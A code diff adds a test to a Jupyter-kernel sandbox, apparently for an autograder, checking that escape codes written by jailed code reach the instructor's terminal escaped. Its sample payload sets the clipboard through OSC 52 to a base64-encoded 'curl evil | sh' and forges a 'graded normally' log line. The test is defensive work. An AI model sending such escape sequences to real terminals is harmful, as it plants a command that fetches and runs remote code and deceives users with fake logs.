@@ -616,6 +616,19 @@ def test_a_jail_that_cannot_be_built_fails_instead_of_running_unjailed(tmp_path:
     assert "the kernel could not be jailed" in result.stderr and "no-such-folder" in result.stderr
 
 
+@linux_only
+def test_what_a_jailed_kernel_writes_to_its_stderr_reaches_the_terminal_escaped(tmp_path: Path) -> None:
+    """ipykernel copies file-descriptor writes to the keeper, which relays them to the instructor's terminal:
+    an escape code there could set the clipboard (OSC 52), retitle the window or print a fake log line."""
+    _, path = _jail_spec(tmp_path, tmp_path)
+    code = ("import os\nos.write(2, b'\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[1A\\x1b[2K\\r"
+            "[AutogradeApp | INFO] graded normally\\n')")
+    result = _jailed(path, code)
+    assert result.returncode == 0, result.stderr
+    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[1A\\x1b[2K\\r[AutogradeApp" in result.stderr
+    assert not set(result.stderr) & {"\x1b", "\x07", "\r"}
+
+
 def test_a_jailed_kernel_never_sees_the_course_or_a_folder_holding_it(tmp_path: Path, monkeypatch) -> None:  # noqa: ANN001
     course = tmp_path / "repo" / "labs"
     course.mkdir(parents=True)
